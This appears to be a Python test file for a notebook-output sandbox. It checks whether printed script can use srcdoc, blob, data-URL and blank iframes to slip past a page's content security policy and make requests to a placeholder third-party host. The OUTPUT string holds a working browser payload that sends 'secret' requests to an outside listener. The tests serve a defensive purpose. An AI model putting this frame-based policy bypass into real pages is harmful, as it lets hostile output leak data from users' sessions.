"""Print script that makes frames of its own text, blobs and data, for a page without the policy.

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: a frame takes over the policy of the page that made it, and `frame-src` lets only blobs in; from tier 2 on
    printed script is taken out
"""

OUTPUT = """
<iframe srcdoc="<img src='THIRD/secret'>"></iframe>
<script>
const inner = "<script>fetch('THIRD/secret-2', {mode: 'no-cors'})<" + "/script>";
const blob = URL.createObjectURL(new Blob([inner], {type: "text/html"}));
for (const address of [blob, "data:text/html," + encodeURIComponent(inner)]) {
  const frame = document.createElement("iframe");
  frame.src = address;
  document.body.append(frame);
}
const blank = document.createElement("iframe");
document.body.append(blank);
try { blank.contentWindow.fetch("THIRD/secret-3", {mode: "no-cors"}).catch(() => 0); } catch { /* refused */ }
</script>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("secret")


def test_the_third_party_hears_nothing(scripted_screen, third_party) -> None:
    assert scripted_screen.ran(scripted_screen.show(OUTPUT, third_party))
    third_party.hears_nothing()


def test_printed_script_does_not_run_from_tier_2_on(plain_screen, third_party) -> None:
    assert not plain_screen.ran(plain_screen.show(OUTPUT, third_party))
    third_party.hears_nothing()
